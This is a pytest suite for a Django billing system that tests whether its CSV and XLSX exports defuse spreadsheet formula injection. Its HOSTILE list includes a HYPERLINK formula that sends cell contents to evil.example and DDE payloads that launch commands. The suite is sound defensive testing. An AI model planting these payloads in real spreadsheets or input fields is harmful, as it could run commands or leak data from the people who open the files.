"""Formula injection: every CSV and XLSX the program writes, with cells that a spreadsheet would run."""

import csv
import datetime
import io
import re
import unicodedata
import zipfile
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from billing import charge_sheets, reports
from billing.models import Charge, Person, RateStudy, UsageFeed
from billing.quantities import Usage
from billing.review import review_sheets
from billing.setup import registers
from billing.texts import one_line
from billing.usage import studies, trying
from billing.usage.pricing.schedules import schedule_from_data
from billing.usage.rate_schedules import tables
from billing.usage.trying.results import Line as TriedLine
from billing.usage.trying.results import MonthTried, Owed, Payer, Tried
from journals.formats import BUILT_IN, TemplateFormat
from journals.formats.documents import as_csv, as_spreadsheet
from journals.formats.layouts import LayoutFormat, layout_from_data
from journals.formats.sample import sample
from statements import issuing, sheets, taking
from statements.document import Figures, Line, Resource, Section, StatementDocument
from statements.models import Statement
from tests import build

ROOT = Path(__file__).resolve().parent.parent

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "a\n=1+1",
    'x","=1+1',
    "-2+3+cmd|' /C calc'!A0",
)


def runs(cell: str) -> bool:
    """Say whether a spreadsheet could take a cell for a formula: worked out apart from `billing.sheets`."""
    if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell):
        return False
    seen = "".join(each for each in cell if unicodedata.category(each)[0] not in "CZ")
    return cell.startswith(STARTS) or seen.startswith(STARTS)


def cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def check_csv(content: bytes, hostile: str) -> None:
    cells = cells_of_csv(content)
    assert [cell for cell in cells if runs(cell)] == []
    # The text is there, on one line: it was defused and not left out.
    assert any(one_line(hostile) in cell for cell in cells)


def check_xlsx(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f" not in re.sub(rb"<(formula|fonts?|fills?)[ >/12]", b"", book.read(name)), name
    values = [
        cell
        for sheet in load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert values
    assert [cell.value for cell in values if cell.data_type == "f"] == []
    # What looks like a formula is text even after somebody has edited the cell.
    assert all(cell.quotePrefix for cell in values if isinstance(cell.value, str) and runs(cell.value))


def statement_of(hostile: str) -> StatementDocument:
    figures = Figures(Decimal(3), Decimal(2), Decimal(1))
    usage = (Usage(Decimal(5), hostile),)
    line = Line(
        source=hostile,
        service=hostile,
        correction=hostile,
        natural_account=hostile,
        charge_count=1,
        figures=figures,
        resources=(Resource(name=hostile, resource_id=hostile, count=1, figures=figures, usage=usage),),
        usage=usage,
    )
    return StatementDocument(
        number="2025-01-0001-1",
        reference="2025-01-0001",
        revision=1,
        month=datetime.date(2025, 1, 1),
        issued_on=datetime.date(2025, 2, 3),
        currency="USD",
        institution=hostile,
        pi_name=hostile,
        pi_email=hostile,
        project_code=hostile,
        figures=figures,
        sections=(Section(fund_org=hostile, fund_name=hostile, lines=(line,)),),
    )


def journal_of(hostile):
    document = sample(("fund",))
    texts = ("fund_org", "natural_account", "description", "pi_email", "pi_name", "project", "source", "service")
    lines = [replace(line, **dict.fromkeys(texts, hostile), segments={"fund": hostile}) for line in document.lines]
    return replace(document, lines=lines)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_statements(hostile):
    check_csv(sheets.as_csv(statement_of(hostile)), hostile)
    check_xlsx(sheets.as_xlsx(statement_of(hostile)))


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("name", BUILT_IN)
def test_journals(hostile, name):
    table = BUILT_IN[name].table(journal_of(hostile))
    check_csv(as_csv(table).content, hostile)
    check_xlsx(as_spreadsheet(BUILT_IN[name].table(journal_of(hostile)), title="=1+1").content)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_journals_by_a_template(hostile):
    line = '{{ line.description }},"{{ line.fund_org }}",x{{ line.project }}, {{ line.pi_name }},={{ line.pi_email }}'
    check_csv(TemplateFormat("own", "=1+1,@x", line, "+1").write(journal_of(hostile)).content, hostile)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_journals_by_a_layout(hostile):
    names = ("description", "pi_email", "pi_name", "project", "source", "service")
    fields = [{"name": f"={name}", "value": f"{{{name}}}"} for name in names]
    records = [{"name": "line", "each": "line", "headings": True, "fields": fields}]
    how = {"csv": {"records": records}, "xlsx": {"sheets": [{"name": "Lines", "records": records}]}}
    files = [{"name": "x", "kind": kind, **more} for kind, more in how.items()]
    layout = {"schema": 1, "title": "x", "encoding": "utf-8", "unknown_characters": "question_mark"}
    document = journal_of(hostile)
    for file in files:
        made = LayoutFormat("own", layout_from_data(layout | {"files": [file, {"name": "s", "kind": "support"}]}))
        written = made.write(document)
        check_csv(written.beside[0].content, hostile)
        check_csv(written.content, " ".join(one_line(hostile).split())) if file["kind"] == "csv" else check_xlsx(
            written.content
        )


def charges_of_hostile_texts():
    for number, hostile in enumerate(HOSTILE):
        # A database keeps no null characters.
        text = hostile.replace("\x00", "")
        build.a_charge(
            flags=("missing_pi",),
            project=f"{text}{number}",
            service_name=text,
            resource_name=text,
            fund_org=text,
        )
    Person.objects.update(name="=1+1")


@pytest.mark.django_db
def test_review_sheets():
    charges_of_hostile_texts()
    file = io.BytesIO()
    review_sheets.export(charges=Charge.objects.all(), file=file, actor=build.SOMEBODY, now=build.NOW)
    check_xlsx(file.getvalue())


@pytest.mark.django_db
@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_lists_of_charges(form):
    charges_of_hostile_texts()
    file = io.BytesIO()
    charge_sheets.write(charges=Charge.objects.all(), file=file, form=form, actor=build.SOMEBODY, now=build.NOW)
    if form == "xlsx":
        check_xlsx(file.getvalue())
    else:
        check_csv(file.getvalue(), "=1+1")


@pytest.mark.django_db
def test_charges_of_statements():
    for number, hostile in enumerate(HOSTILE):
        text = hostile.replace("\x00", "")
        said = dict.fromkeys(("service_name", "provider_name", "resource_id", "sku_id", "consumed_unit"), text)
        build.a_charge(resource_name=f"{text}{number}", consumed_quantity="-1", reference_1=text, fund_org=text, **said)
    issuing.generate(period=build.a_period(), actor=build.SOMEBODY, now=build.NOW)
    check_csv(issuing.charges_csv_of(Statement.objects.get()), "=1+1")


@pytest.mark.django_db
def test_trends(client, cast):
    charges_of_hostile_texts()
    client.force_login(cast.admin)
    # The hostile charges are held: what is charged is somebody else's.
    for number, hostile in enumerate(HOSTILE):
        build.a_charge("5.00", service_name=hostile.replace("\x00", ""), resource_name=f"r-{number}")
    page = client.get(reverse("admin:trends"), {"by": "service", "csv": "on", "period": "2025-01"})
    check_csv(page.content, "=1+1")


@pytest.mark.django_db
@pytest.mark.parametrize("by", ["service", "fund", "pi", "department"])
def test_reports(by):
    college = build.a_department("=1+1", name="=1+1")
    for number, hostile in enumerate(HOSTILE):
        text = hostile.replace("\x00", "")
        build.a_charge(service_name=text, resource_name=f"{text}{number}", fund_org=text)
    Person.objects.update(name=HOSTILE[0], department=college)
    issuing.generate(period=build.a_period(), actor=build.SOMEBODY, now=build.NOW)
    report = reports.make(reports.read({"by": by}))
    check_csv(reports.as_csv(report), "=1+1" if by != "fund" else "+1+1")
    book = load_workbook(io.BytesIO(reports.as_xlsx(report)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    # Only totals and percentages are formulas; no text that somebody typed is one.
    formulas = [cell.value for cell in cells if cell.data_type == "f"]
    assert formulas
    assert all(re.fullmatch(r"=SUM\([A-Z0-9:,]+\)|=IF\([A-Z0-9]+=0,\"\",[A-Z0-9/]+\)", each) for each in formulas)
    texts = [cell for cell in cells if cell.data_type == "s" and runs(cell.value)]
    assert texts
    assert all(cell.quotePrefix for cell in texts)


@pytest.mark.django_db
def test_statements_taken_along():
    for number, hostile in enumerate(HOSTILE):
        text = hostile.replace("\x00", "")
        build.a_charge(service_name=text, resource_name=f"{text}{number}", fund_org=text)
    Person.objects.update(name=HOSTILE[0])
    issuing.generate(period=build.a_period(), actor=build.SOMEBODY, now=build.NOW)
    file = io.BytesIO()
    taking.write_workbook(Statement.objects.all(), file)
    check_xlsx(file.getvalue())


# Where a file for a spreadsheet is made, and the test above that looks at it.
def test_rate_schedules():
    tier = {"price": "1"}
    counts = [{"measure": "cpu_seconds", "unit": "core-hour"}]
    rates = [
        {"code": f"r{number}", "service": text.strip(), "counts": counts, "unit": "core-hour", "tiers": [tier]}
        for number, text in enumerate(HOSTILE)
        if "\n" not in text.strip() and text.strip()
    ]
    schedule = schedule_from_data({"name": "hpc", "version": 1, "rates": rates})
    for form in ("csv", "xlsx"):
        file = io.BytesIO()
        tables.write(schedule, file, form)
        if form == "xlsx":
            check_xlsx(file.getvalue())
        else:
            rows = list(csv.reader(io.StringIO(file.getvalue().decode("utf-8-sig"))))
            assert not [cell for row in rows for cell in row if cell.startswith(STARTS)]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_rates_that_were_tried(hostile):
    payer = Payer(*[hostile] * 7, "charge", True, True, (hostile, hostile))
    line = TriedLine(payer, Owed(Decimal(1), Decimal(2)), Owed(Decimal(-1), Decimal(2)))
    month = MonthTried(hostile, hostile, datetime.date(2025, 1, 1), hostile, hostile, lines=(line,))
    untried = MonthTried("tiger", "tiger", datetime.date(2025, 2, 1), "open", "hpc v1", problem=hostile)
    for form in ("csv", "xlsx"):
        file = io.BytesIO()
        trying.write(Tried(hostile, "USD", (month, untried)), file, form)
        if form == "xlsx":
            check_xlsx(file.getvalue())
        else:
            check_csv(file.getvalue(), hostile)


@pytest.mark.django_db
@pytest.mark.parametrize("hostile", [each for each in HOSTILE if "\0" not in each])
def test_lists_to_edit_and_load_again(hostile):
    build.a_project("reef", name=hostile)
    for form in ("csv", "xlsx"):
        file = io.BytesIO()
        registers.write(registers.PROJECTS, file=file, form=form, actor=build.SOMEBODY, now=build.NOW)
        if form == "xlsx":
            check_xlsx(file.getvalue())
        else:
            check_csv(file.getvalue(), hostile)


def test_rate_studies():
    """Its figures are formulas; its texts never are."""
    costs = tuple(studies.Cost(hostile, "staff", Decimal(1)) for hostile in HOSTILE)
    figures = studies.Figures(
        HOSTILE[0], "USD", 4, costs, (), Decimal(0), None, None, None, studies.Paid(), studies.Paid()
    )
    study = RateStudy(rate=HOSTILE[0], fiscal_year=2025, feed=UsageFeed(name="tiger", display_name=HOSTILE[0]))
    file = io.BytesIO()
    studies.write_workbook(studies.Studied(study, figures, ()), file)
    for sheet in load_workbook(file).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert re.fullmatch(r"=[A-Za-z0-9!:(),/*+=\"-]+", cell.value), cell.value
                    assert cell.value != "=1+1"
                elif isinstance(cell.value, str) and runs(cell.value):
                    assert cell.quotePrefix


WRITERS = {
    "billing/usage/trying/sheets.py": test_rates_that_were_tried,
    "billing/usage/studies/workbook.py": test_rate_studies,
    "billing/usage/rate_schedules/tables.py": test_rate_schedules,
    "billing/sheets.py": test_lists_of_charges,
    "billing/setup/registers/exporting.py": test_lists_to_edit_and_load_again,
    "billing/review/review_sheets/exporting.py": test_review_sheets,
    "billing/trend_pages.py": test_trends,
    "billing/reports/writing.py": test_reports,
    "statements/sheets.py": test_statements,
    "statements/taking.py": test_statements_taken_along,
    "statements/issuing/charge_files.py": test_charges_of_statements,
    "journals/formats/documents.py": test_journals,
    "journals/formats/templated.py": test_journals_by_a_template,
    "journals/formats/layouts/writing.py": test_journals_by_a_layout,
}
# What the importer reads, and nobody is handed: its cells have to stay as they were, as those of any provider's file.
IMPORTED = {"openchargeback/legacy/focus_files.py"}


def test_every_writer_of_spreadsheets_is_tested_here():
    making = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\.to_(csv|excel)\(")
    found = {
        str(path.relative_to(ROOT))
        for app in ("billing", "statements", "journals", "openchargeback")
        for path in (ROOT / app).rglob("*.py")
        if making.search(path.read_text(encoding="utf-8"))
    }
    assert found == set(WRITERS) | IMPORTED, "Write cells by billing/sheets.py, and add a test with HOSTILE cells here."
